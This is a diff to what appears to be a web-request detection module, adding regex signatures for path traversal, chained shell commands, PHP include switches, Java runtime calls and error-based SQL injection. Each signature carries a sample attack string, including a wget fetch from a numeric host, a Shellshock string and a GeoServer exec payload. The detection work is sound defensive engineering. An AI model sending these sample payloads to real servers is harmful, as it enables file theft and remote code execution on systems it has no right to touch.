@@ -244,6 +244,33 @@ export const EXPLOIT_SIGNATURES: readonly Signature[] = [
   },
   { name: 'Shellshock', re: /\(\)\s*\{[^}]*\}\s*;/, sample: '() { :; }; /bin/bash -c "echo; id"' },
   {
+    // The forms nobody types into a search box: climbing to a system file, a shell command chained to another,
+    // PHP's include switches, a Java runtime call, an error-based SQL probe. Their plain words are natural below.
+    name: 'traversal to a system file',
+    re: /\.\.[/\\].*(etc\/(passwd|shadow|hosts)|proc\/self\/|win\.ini|boot\.ini|windows\/system32)/,
+    sample: '/download?file=..%2f..%2f..%2fetc%2fpasswd',
+  },
+  {
+    name: 'shell commands chained in a request',
+    re: /[;|&`]\s*(wget|curl|chmod|cd|busybox|tftp|nc|sh|bash)\s|\b(wget|curl)\s[^|;]*\|\s*(ba)?sh\b|\bcd\s+\/tmp\s*[;&|]/,
+    sample: '/shell?cd+/tmp;wget+http://198.51.100.7/x.sh',
+  },
+  {
+    name: "PHP's include switches and code",
+    re: /allow_url_include|auto_prepend_file|php:\/\/filter\/(convert|read|string)|<\?(php|=)[^?]{0,200}\?>|\b(die|echo|print)\s*\(?\s*@?md5\s*\(/,
+    sample: '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
+  },
+  {
+    name: 'Java runtime call',
+    re: /java\.lang\.runtime\.getruntime\(\)|getruntime\(\)\.exec|new\s+java\.lang\.processbuilder|\.getclass\(\)\.forname/,
+    sample: '/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
+  },
+  {
+    name: 'error-based SQL injection probe',
+    re: /\b(updatexml|extractvalue)\s*\([^)]*concat|concat\s*\(\s*0x[0-9a-f]+/,
+    sample: '/index.php?list[fullordering]=updatexml(1,concat(0x7e,version()),1)',
+  },
+  {
     name: 'system file read',
     re: /(\.\.[/\\]|=\s*|^)\/?etc\/(passwd|shadow)\b|\/proc\/self\/(environ|cmdline)|(\.\.[/\\]|=\s*|^)[\w:/\\]*\b(win|boot)\.ini\b/,
     sample: '/download?file=..%2f..%2f..%2fetc%2fpasswd',
